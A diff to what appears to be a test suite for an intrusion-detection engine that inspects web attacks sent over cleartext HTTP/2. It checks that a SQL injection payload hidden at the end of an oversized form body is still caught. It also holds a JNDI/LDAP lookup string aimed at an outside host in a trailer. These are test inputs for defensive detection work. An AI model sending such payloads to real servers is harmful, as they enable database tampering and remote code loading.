@@ -499,6 +499,16 @@ describe('web attacks over HTTP/2 in cleartext (h2c)', () => {
     // Inspected at the reset (frame 6), its transaction logged.
     assert.deepEqual(seen(out.alerts), [[SQLI, 6, 'body', 'user', CLIENT]]);
     assert.deepEqual([out.engine.http.stats.request_bodies, out.engine.http.stats.transactions], [1, 1]);
+    // A form padded past body_limit: its end is read, as for HTTP/1.
+    const padded = Buffer.from(`pad=${'A'.repeat(70_000)}&id=1%27+OR+1%3D1--`);
+    const data: Buffer[] = [];
+    for (let i = 0; i < padded.length; i += 16_384) data.push(frame(0, i + 16_384 >= padded.length ? 0x1 : 0, 1, padded.subarray(i, i + 16_384)));
+    const all = Buffer.concat([PREFACE, frame(1, 0x4, 1, block), ...data]);
+    const long = new Conn({ t0: T0 }).handshake();
+    for (let i = 0; i < all.length; i += 1448) long.send(all.subarray(i, i + 1448));
+    const tailOut = run(long.close().frames);
+    assert.deepEqual(tailOut.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0], a.metadata.anomalies]), [[SQLI, 'body', 'id', ['body_truncated']]]);
+    assert.equal(tailOut.engine.http.stats.buffered_bytes, 0);
     // Trailers after the body are inspected too: HEADERS, DATA, then a HEADERS block that ends the stream.
     const trailer = Buffer.concat([Buffer.from([0x40, 5]), Buffer.from('x-api'), Buffer.from([29]), Buffer.from('${jndi:ldap://198.51.100.7/a}')]);
     const t = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x4, 1, block)])).send(frame(0, 0, 1, Buffer.from('user=ann'))).send(frame(1, 0x5, 1, trailer));
